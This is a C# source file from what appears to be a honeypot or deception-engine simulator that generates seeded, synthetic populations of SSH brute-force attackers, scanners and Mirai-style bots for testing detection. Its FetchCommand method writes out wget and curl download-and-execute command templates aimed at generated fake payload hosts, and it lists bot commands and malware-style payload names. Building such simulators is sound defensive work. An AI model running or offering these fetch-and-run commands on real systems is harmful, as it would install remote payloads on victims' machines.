using System.Globalization;

namespace Decnet.Engine.Simulation;

/// <summary>
/// Plans a simulated population IP by IP from one seeded <see cref="Random"/>: scenarios call it in a fixed order, so
/// the same seed always plans the same population. Holds an IP budget (<see cref="Remaining"/>) so the total is exact.
/// </summary>
public sealed class PopulationBuilder
{
    private static readonly string[] BotCommands = ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"];
    private static readonly string[] Tlds = ["top", "xyz", "ru", "cn", "site", "online", "com", "net"];
    private static readonly string[] DomainWords =
    [
        "update", "cdn", "files", "static", "dl", "mirror", "repo", "cloud", "sys", "kernel", "linux", "data", "api", "node", "img", "pkg",
    ];
    private static readonly string[] PayloadNames = ["x86", "sshd", "kworker", ".x", "dbus", "bins.sh", "ssh.sh", "init", "xmr", "systemd-net", "mips", "arm7"];

    private readonly Random _random;
    private readonly AddressPool _addresses;
    private readonly List<SimulatedAttacker> _attackers = [];
    private readonly Dictionary<(SshClient, Credential[], int, int), OperatorKit> _scannerKits = [];
    private readonly Dictionary<Credential[], bool[]> _noPrivates = new(ReferenceEqualityComparer.Instance);
    private int _operators, _campaigns, _noise, _bots;
    private ulong _sessions;
    private readonly ulong _sessionSalt;

    public PopulationBuilder(Random random, DateTimeOffset start, int attackers)
    {
        _random = random;
        _addresses = new AddressPool(random);
        Start = start;
        Remaining = attackers;
        _sessionSalt = (ulong)random.NextInt64() & SessionIdMask;
    }

    public DateTimeOffset Start { get; }
    /// <summary>IPs still to plan.</summary>
    public int Remaining { get; private set; }
    public Random Random => _random;

    public DateTimeOffset Day(double days) => Start + TimeSpan.FromDays(days);

    public string NewCampaign() => "camp-" + (++_campaigns).ToString("D3", CultureInfo.InvariantCulture);

    /// <summary>Infrastructure one campaign fetches from: one or two hosts, each serving one or two payloads.</summary>
    public Payload[] NewInfrastructure()
    {
        var payloads = new List<Payload>();
        var hosts = _random.Next(1, 3);
        for (var h = 0; h < hosts; h++)
        {
            string host;
            if (_random.Next(2) == 0)
            {
                var port = _random.Next(4) switch { 0 => "", 1 => ":8080", 2 => ":" + _random.Next(1024, 9999).ToString(CultureInfo.InvariantCulture), _ => ":443" };
                host = AddressPool.Text(_addresses.NewAddress(_addresses.NewNetwork())) + port;
            }
            else
            {
                host = DomainWords[_random.Next(DomainWords.Length)] + "-" + DomainWords[_random.Next(DomainWords.Length)]
                       + _random.Next(10, 999).ToString(CultureInfo.InvariantCulture) + "." + Tlds[_random.Next(Tlds.Length)];
            }
            var files = _random.Next(1, 3);
            for (var f = 0; f < files; f++)
            {
                var path = (_random.Next(2) == 0 ? "bins/" : "") + PayloadNames[_random.Next(PayloadNames.Length)];
                payloads.Add(new Payload("http://" + host + "/" + path, Sha256()));
            }
        }
        return [.. payloads.DistinctBy(p => p.Url)];
    }

    /// <summary>A new operator kit: its own tool (or a common one), wordlist order, habits; payloads and deckies given by its campaign.</summary>
    public OperatorKit NewOperator(OperatorStyle style, Payload[] payloads, string[] sensors)
    {
        var client = style.Client ?? ClientCatalog.Custom(_random);
        var list = style.PublicList ?? Wordlists.Draw(_random);
        var publicPart = style.KeepPublicOrder
            ? list[..Math.Min(style.PublicCount, list.Length)]
            : Shuffled(list)[..Math.Min(style.PublicCount, list.Length)];
        // Private entries go in at random places: a tool's list is a public one edited by hand.
        var words = new List<(Credential, bool)>(publicPart.Select(c => (c, false)));
        for (var i = 0; i < style.PrivateCount; i++)
            words.Insert(_random.Next(words.Count + 1), (Wordlists.Private(_random), true));

        var recon = Shuffled(CommandCatalog.Recon)[.._random.Next(2, 6)];
        var habits = Shuffled(CommandCatalog.Habits)[.._random.Next(1, 5)];
        var commands = recon.Concat(habits).ToArray();
        _random.Shuffle(commands);
        var targets = _random.Next(3) == 0
            ? new[] { ("mail." + DomainWords[_random.Next(DomainWords.Length)] + _random.Next(100, 999).ToString(CultureInfo.InvariantCulture) + ".com", 25) }
            : [];
        return new OperatorKit
        {
            Client = client,
            Wordlist = [.. words.Select(w => w.Item1)],
            IsPrivate = [.. words.Select(w => w.Item2)],
            Commands = commands,
            Payloads = payloads,
            TcpipTargets = targets,
            Sensors = sensors,
            Cadence = 0.4 + _random.NextDouble() * 2.5,
            IsOperator = true,
        };
    }

    public string NewOperatorId() => "op-" + (++_operators).ToString("D4", CultureInfo.InvariantCulture);

    /// <summary>Plans up to <paramref name="ips"/> IPs (fewer when the budget runs out) of one identity active in [from, to).</summary>
    public int AddOperatorIps(string identity, string campaign, OperatorKit kit, OperatorStyle style, int ips,
        DateTimeOffset from, DateTimeOffset to, IpRotation rotation)
    {
        ips = Math.Min(ips, Remaining);
        if (ips <= 0) return 0;
        var networks = rotation == IpRotation.Hopping
            ? _addresses.DistinctProviderNetworks(Math.Max(3, (ips + 1) / 2))
            : _addresses.DistinctProviderNetworks(_random.Next(1, 3));
        var span = to - from;
        var cursor = _random.Next(kit.Wordlist.Length);
        for (var i = 0; i < ips; i++)
        {
            var address = _addresses.NewAddress(networks[i % networks.Length]);
            // Hopping: IP i works in slice i of the window; servers: anywhere in it.
            var (sliceFrom, sliceLength) = rotation == IpRotation.Hopping
                ? (from + span * i / ips, span / ips)
                : (from, span);
            var count = _random.Next(style.SessionsPerIp.Min, style.SessionsPerIp.Max + 1);
            var starts = new DateTimeOffset[count];
            for (var s = 0; s < count; s++) starts[s] = sliceFrom + sliceLength * _random.NextDouble();
            Array.Sort(starts);
            // One IP's sessions never overlap (a tool runs one session at a time from one address).
            for (var s = 1; s < count; s++)
                if (starts[s] < starts[s - 1] + MinimumGap) starts[s] = starts[s - 1] + MinimumGap;
            var sessions = new SimulatedSession[count];
            var privatesTried = 0;
            for (var s = 0; s < count; s++)
            {
                var creds = Math.Min(kit.Wordlist.Length, _random.Next(style.CredentialsPerSession.Min, style.CredentialsPerSession.Max + 1));
                // Every IP of an operator tries at least two of its private entries: what makes its IPs linkable.
                if (s == count - 1)
                    while (privatesTried + Privates(kit, cursor, creds) < 2 && creds < kit.Wordlist.Length) creds++;
                privatesTried += Privates(kit, cursor, creds);
                var success = _random.NextDouble() < (s == count - 1 ? 0.8 : 0.4);
                sessions[s] = OperatorSession(kit, starts[s], cursor, creds, success);
                cursor = (cursor + creds) % kit.Wordlist.Length;
            }
            Add(address, identity, campaign, kit, sessions);
        }
        return ips;
    }

    /// <summary>Plans internet noise: one-off scanners with common stacks, common lists in common order, short sessions.</summary>
    public void AddNoise(int count, DateTimeOffset from, DateTimeOffset to)
    {
        count = Math.Min(count, Remaining);
        for (var i = 0; i < count; i++)
        {
            var client = ClientCatalog.DrawCommon(_random);
            var list = Wordlists.Draw(_random);
            var script = _random.Next(4) == 0 ? _random.Next(1, 7) : 0;
            var proxy = _random.Next(20) == 0 ? _random.Next(CommandCatalog.CommonTcpipTargets.Length) : -1;
            var kit = ScannerKit(client, list, script, proxy, 0.5 + _random.NextDouble() * 1.5);
            var sessions = ScannerSessions(kit, from, to, maxCredentials: 4, successRate: 0.15);
            Add(_addresses.NoiseAddress(), "noise-" + (++_noise).ToString("D6", CultureInfo.InvariantCulture), "", kit, sessions);
        }
    }

    /// <summary>Plans unrelated bots of one family: the same common stack and the Mirai list, each its own identity.</summary>
    public void AddBots(int count, DateTimeOffset from, DateTimeOffset to)
    {
        count = Math.Min(count, Remaining);
        for (var i = 0; i < count; i++)
        {
            var kit = ScannerKit(ClientCatalog.CommonBot, Wordlists.Mirai, -1, -1, 0.3 + _random.NextDouble() * 0.4);
            var sessions = ScannerSessions(kit, from, to, maxCredentials: 10, successRate: 0.25);
            Add(_addresses.NoiseAddress(), "bot-" + (++_bots).ToString("D6", CultureInfo.InvariantCulture), "", kit, sessions);
        }
    }

    public SimulatedPopulation Build(string scenario, DateTimeOffset end)
    {
        var attackers = _attackers.ToArray();
        Array.Sort(attackers, static (a, b) => a.Address.CompareTo(b.Address));
        return new SimulatedPopulation(scenario, Start, end, attackers);
    }

    private OperatorKit ScannerKit(SshClient client, Credential[] list, int script, int proxy, double cadence)
    {
        // Scanners with the same stack, list and script are indistinguishable by construction: share one kit.
        var key = (client, list, script, proxy);
        if (_scannerKits.TryGetValue(key, out var kit)) return kit;
        if (!_noPrivates.TryGetValue(list, out var none)) _noPrivates[list] = none = new bool[list.Length];
        kit = new OperatorKit
        {
            Client = client,
            Wordlist = list,
            IsPrivate = none,
            Commands = script < 0 ? BotCommands : CommandCatalog.Recon[..script],
            Payloads = [],
            TcpipTargets = proxy < 0 ? [] : [CommandCatalog.CommonTcpipTargets[proxy]],
            Sensors = Deckies.Names,
            Cadence = cadence,
        };
        _scannerKits[key] = kit;
        return kit;
    }

    private SimulatedSession[] ScannerSessions(OperatorKit kit, DateTimeOffset from, DateTimeOffset to, int maxCredentials, double successRate)
    {
        var roll = _random.Next(10);
        var count = roll < 7 ? 1 : roll < 9 ? 2 : 3;
        var first = from + (to - from) * _random.NextDouble();
        var sessions = new SimulatedSession[count];
        // Most scanners start at the top of their list; some resume further down.
        var cursor = _random.Next(2) == 0 ? 0 : _random.Next(Math.Min(20, kit.Wordlist.Length));
        var at = first;
        for (var s = 0; s < count; s++)
        {
            var creds = _random.Next(7) == 0 ? 0 : _random.Next(1, maxCredentials + 1);
            creds = Math.Min(creds, kit.Wordlist.Length);
            var success = creds > 0 && _random.NextDouble() < successRate;
            var sensor = kit.Sensors[_random.Next(kit.Sensors.Length)];
            sessions[s] = NewSession(at, sensor, cursor, creds, success,
                success ? kit.Commands : [], [], success ? kit.TcpipTargets : []);
            cursor = (cursor + creds) % kit.Wordlist.Length;
            at += TimeSpan.FromSeconds(60 + _random.NextDouble() * 3 * 3600);
        }
        return sessions;
    }

    private SimulatedSession OperatorSession(OperatorKit kit, DateTimeOffset start, int from, int creds, bool success)
    {
        string[] commands = [];
        Payload[] downloads = [];
        (string, int)[] tcpip = [];
        if (success)
        {
            var list = new List<string>(kit.Commands);
            if (kit.Payloads.Length > 0)
            {
                var payload = kit.Payloads[_random.Next(kit.Payloads.Length)];
                list.Insert(_random.Next(list.Count + 1), FetchCommand(payload, _random.Next(2)));
                downloads = [payload];
            }
            commands = [.. list];
            if (kit.TcpipTargets.Length > 0 && _random.Next(3) == 0) tcpip = kit.TcpipTargets;
        }
        var sensor = kit.Sensors[_random.Next(kit.Sensors.Length)];
        return NewSession(start, sensor, from, creds, success, commands, downloads, tcpip);
    }

    private readonly Dictionary<(Payload, int), string> _fetchCommands = [];

    /// <summary>The command that fetches and runs a payload, in one of two common forms (cached: sessions repeat them).</summary>
    private string FetchCommand(Payload payload, int form)
    {
        if (_fetchCommands.TryGetValue((payload, form), out var command)) return command;
        var name = payload.Url[(payload.Url.LastIndexOf('/') + 1)..];
        command = form == 0
            ? $"cd /tmp || cd /var/run || cd /dev/shm; wget -q {payload.Url} -O {name}; chmod +x {name}; ./{name}"
            : $"curl -fsSL {payload.Url} -o /tmp/{name} && chmod 755 /tmp/{name} && /tmp/{name}";
        _fetchCommands[(payload, form)] = command;
        return command;
    }

    private SimulatedSession NewSession(DateTimeOffset start, string sensor, int from, int creds, bool success,
        string[] commands, Payload[] downloads, (string, int)[] tcpip) => new()
    {
        // Whole microseconds: what Cowrie timestamps carry, so every format round-trips the same instant.
        Start = new DateTimeOffset(start.UtcTicks / 10 * 10, TimeSpan.Zero),
        Sensor = sensor,
        Id = NextSessionId(),
        SrcPort = _random.Next(32768, 61000),
        CredentialFrom = from,
        CredentialCount = creds,
        Success = success,
        Commands = commands,
        Downloads = downloads,
        Tcpip = tcpip,
        Seed = _random.Next(),
    };

    // Longer than any planned session lasts (at most a few minutes).
    private static readonly TimeSpan MinimumGap = TimeSpan.FromMinutes(15);

    private const ulong SessionIdMask = (1UL << 48) - 1;

    /// <summary>12 hex digits like Cowrie's, unique: an odd multiplier is a bijection on 48-bit numbers.</summary>
    private string NextSessionId()
    {
        var n = ((++_sessions + _sessionSalt) * 0x9E3779B97F4BUL) & SessionIdMask;
        return n.ToString("x12", CultureInfo.InvariantCulture);
    }

    private void Add(uint address, string identity, string campaign, OperatorKit kit, SimulatedSession[] sessions)
    {
        Remaining--;
        _attackers.Add(new SimulatedAttacker
        {
            Ip = AddressPool.Text(address),
            Address = address,
            Identity = identity,
            Campaign = campaign,
            Kit = kit,
            Sessions = sessions,
        });
    }

    private static int Privates(OperatorKit kit, int from, int count)
    {
        var n = 0;
        for (var i = 0; i < count; i++) if (kit.IsPrivate[(from + i) % kit.Wordlist.Length]) n++;
        return n;
    }

    private T[] Shuffled<T>(T[] items)
    {
        var copy = (T[])items.Clone();
        _random.Shuffle(copy);
        return copy;
    }

    private string Sha256()
    {
        Span<byte> bytes = stackalloc byte[32];
        _random.NextBytes(bytes);
        return Convert.ToHexStringLower(bytes);
    }
}
